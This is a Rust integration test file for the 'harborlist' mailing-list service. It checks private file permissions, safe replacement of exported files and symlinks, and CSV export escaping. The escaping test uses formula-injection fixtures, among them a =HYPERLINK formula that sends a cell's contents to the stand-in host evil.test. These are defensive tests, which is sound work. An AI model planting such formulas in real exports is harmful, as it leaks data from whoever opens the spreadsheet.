//! Files for the service's user only, and spreadsheet-safe exports: the real binary under
//! a permissive umask (022), on each backend, with the modes read back from the disk.

use std::{
    os::unix::fs::{PermissionsExt, symlink},
    path::{Path, PathBuf},
};

use harborlist::{
    domain::{TokenKey, TokenPurpose, new_nonce},
    store::{
        Store,
        subscriptions::{ImportOutcome, ImportRow},
    },
};

use crate::{
    both_backends,
    helpers::{Backend, DaemonSetup, TestDb, assert_success, eventually},
};

both_backends!(
    the_daemon_creates_its_files_0600_and_folders_0700,
    a_first_import_creates_the_database_and_key_private,
    export_replaces_a_file_or_symlink_with_a_private_file,
    csv_export_marks_formula_cells_and_imports_back_unchanged,
);

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

#[track_caller]
fn assert_mode(path: &Path, expected: u32) {
    assert_eq!(
        mode(path),
        expected,
        "{} is {:03o}, expected {expected:03o}",
        path.display(),
        mode(path)
    );
}

/// A database URL whose SQLite file is in a folder the binary must create; PostgreSQL has
/// no local files.
fn db_url(backend: Backend, db: &TestDb, data: &Path) -> (String, Option<PathBuf>) {
    match backend {
        Backend::Sqlite => {
            let file = data.join("db/harborlist.db");
            (format!("sqlite://{}", file.display()), Some(file))
        }
        Backend::Postgres => (db.url.clone(), None),
    }
}

/// A setup whose processes run under umask 022, write mail to `data/outbox` and keep their
/// token key in `data/keys/harborlist.key`, all of which they must create.
fn setup(db_url: &str, data: &Path) -> DaemonSetup {
    DaemonSetup::new(db_url, "smtp://127.0.0.1:1", "")
        .umask(0o022)
        .env("HARBORLIST__MAIL__TRANSPORT", "file")
        .env(
            "HARBORLIST__MAIL__OUTBOX_DIR",
            &data.join("outbox").display().to_string(),
        )
        .security(&format!(
            "token_key_file = \"{}\"",
            data.join("keys/harborlist.key").display()
        ))
}

async fn the_daemon_creates_its_files_0600_and_folders_0700(backend: Backend) {
    let db = TestDb::new(backend).await;
    let data = tempfile::tempdir().expect("temp dir");
    let (url, file) = db_url(backend, &db, data.path());
    let daemon = setup(&url, data.path()).launch().await;
    assert!(
        daemon
            .subscribe("jane@example.org", "Jane")
            .await
            .is_success()
    );
    let outbox = data.path().join("outbox");
    let eml = eventually(20, "the confirmation in the outbox", || async {
        std::fs::read_dir(&outbox)
            .ok()?
            .filter_map(|e| e.ok().map(|e| e.path()))
            .find(|p| p.extension().is_some_and(|x| x == "eml"))
    })
    .await;

    assert_mode(&outbox, 0o700);
    assert_mode(&eml, 0o600);
    assert_mode(&data.path().join("keys"), 0o700);
    assert_mode(&data.path().join("keys/harborlist.key"), 0o600);
    if let Some(file) = file {
        assert_mode(file.parent().expect("folder"), 0o700);
        // While the daemon runs, SQLite keeps its write-ahead log and shared memory open.
        for suffix in ["", "-wal", "-shm"] {
            assert_mode(Path::new(&format!("{}{suffix}", file.display())), 0o600);
        }
    }
    assert!(daemon.stop().await.success());
}

async fn a_first_import_creates_the_database_and_key_private(backend: Backend) {
    let db = TestDb::new(backend).await;
    let data = tempfile::tempdir().expect("temp dir");
    let (url, file) = db_url(backend, &db, data.path());
    let csv = data.path().join("old.csv");
    std::fs::write(&csv, "email,name\nana@example.org,Ana\n").expect("write csv");
    let out = setup(&url, data.path())
        .run(&["subscribers", "import", &csv.display().to_string()])
        .await;
    assert_success(&out);
    assert_mode(&data.path().join("keys"), 0o700);
    assert_mode(&data.path().join("keys/harborlist.key"), 0o600);
    if let Some(file) = file {
        assert_mode(file.parent().expect("folder"), 0o700);
        assert_mode(&file, 0o600);
        // SQLite removes these when the last connection closes; any left must be private.
        for suffix in ["-wal", "-shm"] {
            let side = PathBuf::from(format!("{}{suffix}", file.display()));
            if side.exists() {
                assert_mode(&side, 0o600);
            }
        }
    }
}

/// Puts a subscriber straight into the store, as an old version or the form could have.
async fn add(store: &Store, key: &TokenKey, email: &str, name: &str) {
    let nonce = new_nonce();
    let hash = key.derive(TokenPurpose::Unsubscribe, &nonce).hash();
    let email_key = email.to_lowercase();
    let row = ImportRow {
        email,
        email_key: &email_key,
        name: Some(name),
        unsub_nonce: &nonce,
        unsub_hash: &hash,
        now_ms: 0,
    };
    assert_eq!(
        store.import_subscriber(&row).await.expect("add"),
        ImportOutcome::Added
    );
}

/// A database with subscribers, and a setup (umask 022) for the CLI on it.
async fn listed(backend: Backend, people: &[(&str, &str)]) -> (TestDb, DaemonSetup) {
    let db = TestDb::new(backend).await;
    let store = Store::connect(&db.url, 2).await.expect("store");
    let setup = DaemonSetup::new(&db.url, "smtp://127.0.0.1:1", "").umask(0o022);
    let key = TokenKey::parse(&setup.token_key).expect("key");
    for (email, name) in people {
        add(&store, &key, email, name).await;
    }
    store.close().await;
    (db, setup)
}

async fn export_replaces_a_file_or_symlink_with_a_private_file(backend: Backend) {
    let (_db, setup) = listed(backend, &[("ana@example.org", "Ana")]).await;
    let dir = setup.dir().to_owned();

    let existing = dir.join("existing.csv");
    std::fs::write(&existing, "old data\n").expect("write");
    std::fs::set_permissions(&existing, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let out = setup
        .run(&["subscribers", "export", "-o", "existing.csv"])
        .await;
    assert_success(&out);
    assert_mode(&existing, 0o600);
    let text = std::fs::read_to_string(&existing).expect("read");
    assert!(
        text.starts_with("email,name,") && text.contains("ana@example.org"),
        "{text}"
    );

    let target = dir.join("someone-elses.txt");
    std::fs::write(&target, "not yours\n").expect("write");
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let link = dir.join("link.csv");
    symlink(&target, &link).expect("symlink");
    let out = setup
        .run(&[
            "subscribers",
            "export",
            "--format",
            "json",
            "-o",
            "link.csv",
        ])
        .await;
    assert_success(&out);
    assert!(
        !std::fs::symlink_metadata(&link)
            .expect("link.csv")
            .is_symlink(),
        "the link is replaced by a file"
    );
    assert_mode(&link, 0o600);
    assert!(
        std::fs::read_to_string(&link)
            .expect("read")
            .contains("ana@example.org")
    );
    assert_eq!(
        std::fs::read_to_string(&target).expect("read"),
        "not yours\n"
    );
    assert_mode(&target, 0o644);
    // No temporary file is left beside them.
    let stray: Vec<_> = std::fs::read_dir(&dir)
        .expect("list")
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert!(stray.is_empty(), "{stray:?}");
}

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.test/?d=\"&A2,\"x\")";

async fn csv_export_marks_formula_cells_and_imports_back_unchanged(backend: Backend) {
    let people = [
        ("hyper@example.org", HYPERLINK),
        ("plus@example.org", "+1"),
        ("minus@example.org", "-2"),
        ("at@example.org", "@SUM(A1)"),
        ("quote@example.org", "'=already quoted"),
        ("plain@example.org", "Ann O'Brien"),
        ("-dash@example.org", "Dash"),
        ("=eq@example.org", "Eq"),
        // Names with control characters are refused at the form and the import; one stored
        // by other means is still exported safely.
        ("tab@example.org", "\t=1+1"),
    ];
    let (_db, setup) = listed(backend, &people).await;
    let out = setup
        .run(&["subscribers", "export", "-o", "list.csv"])
        .await;
    assert_success(&out);
    let file = setup.dir().join("list.csv");
    let mut reader = csv::Reader::from_path(&file).expect("open export");
    let cells: Vec<(String, String)> = reader
        .records()
        .map(|r| {
            let r = r.expect("record");
            (r[0].to_owned(), r[1].to_owned())
        })
        .collect();
    for (email, name) in people {
        let marked = |s: &str| {
            if s.trim_start_matches('\'')
                .starts_with(['=', '+', '-', '@', '\t'])
            {
                format!("'{s}")
            } else {
                s.to_owned()
            }
        };
        assert!(
            cells.contains(&(marked(email), marked(name))),
            "{email} {name:?} in {cells:?}"
        );
    }
    assert!(cells.contains(&("hyper@example.org".into(), format!("'{HYPERLINK}"))));
    assert!(cells.contains(&("'-dash@example.org".into(), "Dash".into())));

    // Into a fresh database: the same names come back, without the marks.
    let fresh = TestDb::new(backend).await;
    let again = DaemonSetup::new(&fresh.url, "smtp://127.0.0.1:1", "");
    let out = again
        .run(&["subscribers", "import", &file.display().to_string()])
        .await;
    assert_success(&out);
    let summary = String::from_utf8_lossy(&out.stdout);
    assert!(
        summary.contains("imported 8,") && summary.contains("bad rows 1"),
        "{summary}"
    );
    let store = Store::connect(&fresh.url, 2).await.expect("store");
    let mut back: Vec<(String, String)> = store
        .list_subscribers()
        .await
        .expect("list")
        .into_iter()
        .map(|s| (s.email, s.name.unwrap_or_default()))
        .collect();
    store.close().await;
    back.sort();
    let mut expected: Vec<(String, String)> = people
        .iter()
        .filter(|(email, _)| *email != "tab@example.org")
        .map(|(e, n)| ((*e).to_owned(), (*n).to_owned()))
        .collect();
    expected.sort();
    assert_eq!(back, expected);
}

/// SQLite only: PostgreSQL keeps no file of ours.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_database_others_can_read_is_named_in_the_log_and_kept_as_it_is() {
    let data = tempfile::tempdir().expect("temp dir");
    let file = data.path().join("old.db");
    std::fs::write(&file, "").expect("an empty database");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let url = format!("sqlite://{}", file.display());
    let daemon = setup(&url, data.path()).launch().await;
    let log = daemon.log();
    assert!(
        log.contains("the database file can be read by other users") && log.contains("644"),
        "{log}"
    );
    assert_mode(&file, 0o644);
    assert!(daemon.stop().await.success());
}
